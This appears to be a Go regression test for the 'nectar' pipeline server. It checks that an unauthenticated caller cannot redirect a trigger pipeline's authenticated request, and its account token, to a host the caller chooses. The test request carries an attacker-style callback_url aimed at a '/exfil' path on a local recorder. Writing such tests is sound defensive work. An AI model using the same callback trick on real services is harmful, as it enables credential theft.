package rest_test

import (
	"context"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nectar-run/nectar/accounts"
	"github.com/nectar-run/nectar/accounts/accountstest"
	"github.com/nectar-run/nectar/server"
)

// TestTriggerCallbackURLCannotTakeTheToken is #19.1 as it was reported: a
// trigger pipeline without auth calls {{ message.callback_url }} with
// account cc2; an unauthenticated caller posts a callback_url on another
// loopback port. The caller gets a generic 502 (the account refused the
// host; #19.11 keeps the detail from the caller), and the other server
// receives nothing: no token, no request.
func TestTriggerCallbackURLCannotTakeTheToken(t *testing.T) {
	fake := accountstest.New(t)
	elsewhere := newRecorder(t, nil)
	rt, m, _ := runtime(t)
	fakeAccount(t, m, fake, "cc2", func(a *accounts.Account) { a.BaseURL, a.AllowedHosts = fake.URL+"/api", nil })
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "hook.yaml"), []byte(`name: hook
trigger:
  http: {path: /hook, methods: [POST]}
steps:
  - rest: {method: POST, url: "{{ message.callback_url }}", account: cc2, body: {done: true}, retries: 0}
`), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	srv, err := server.New(ctx, server.Options{Dir: dir, Runtime: rt, HistoryOff: true})
	if err != nil {
		t.Fatal(err)
	}
	srv.Start()
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		srv.Shutdown(ctx)
	})
	hs := newRecorder(t, srv.Handler().ServeHTTP)

	resp, err := http.Post(hs.URL+"/hook", "application/json", strings.NewReader(`{"callback_url":"`+elsewhere.URL+`/exfil"}`))
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	// The refusal is an account failure: the unauthenticated caller gets
	// the generic 502 (#19.11), not the account's name or hosts; the
	// detail is in the log and the execution record.
	if resp.StatusCode != http.StatusBadGateway || strings.Contains(string(body), hostPort(t, elsewhere.URL)) || !strings.Contains(string(body), "an account used by this pipeline failed") {
		t.Fatalf("answer %d %s; want the generic 502 without the host", resp.StatusCode, body)
	}
	if n := len(elsewhere.requests()); n != 0 {
		t.Fatalf("the caller's callback host got %d requests: %v", n, elsewhere.requests()[0].Header)
	}
	for _, s := range fake.IssuedSecrets() {
		if strings.Contains(string(body), s) {
			t.Fatal("the answer shows a token")
		}
	}
}
